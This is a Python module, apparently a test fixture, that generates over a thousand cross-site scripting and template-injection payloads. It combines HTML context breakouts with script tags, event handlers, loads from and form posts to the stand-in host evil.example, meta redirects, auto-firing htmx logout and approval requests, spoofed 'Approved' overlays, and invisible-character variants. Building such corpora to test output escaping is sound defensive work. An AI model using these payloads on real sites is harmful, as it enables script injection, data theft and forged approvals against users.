"""More than a thousand texts that try to act, to load, or to look like our own words. No test is here."""

from __future__ import annotations

BREAKS = ("", '">', "'>", "</pre>", "</textarea>", "</script>", "-->", "</title></head>", '" autofocus ')
ACTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href=//evil.example/x.svg#a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>approve</a>",
    "<a href=//evil.example ping=//evil.example>approve</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=position:fixed;inset:0>Approved by ada</div>",
    "<form action=//evil.example><button>Approve this call</button></form>",
    "<button formaction=//evil.example>Approve</button>",
    "<div hx-get=/requests/x/decide hx-trigger=load></div>",
    "<div hx-post=/logout hx-trigger=load></div>",
    "<hx-partial hx-target=#detail>Approved</hx-partial>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<h1>delete nothing</h1>",
    "<p class=sentence>Run nothing without arguments?</p>",
    "<span class=ours>command</span> ls",
    "{{ 7 * 7 }}{{ at.visitor.form }}",
    "{% include 'base.html' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "onerror=alert(1) x=",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
)


def payloads() -> list[str]:
    """Return each act behind each break, plain, in capitals, and with characters between that cannot be seen."""
    plain = [before + act for before in BREAKS for act in ACTS]
    shouted = [before.upper() + act.upper() for before in BREAKS for act in ACTS]
    hidden = [f"\u200b{text[:3]}\u2060{text[3:]}\x00".replace("\x00", "\u00ad") for text in plain]
    return list(dict.fromkeys([*plain, *shouted, *hidden]))
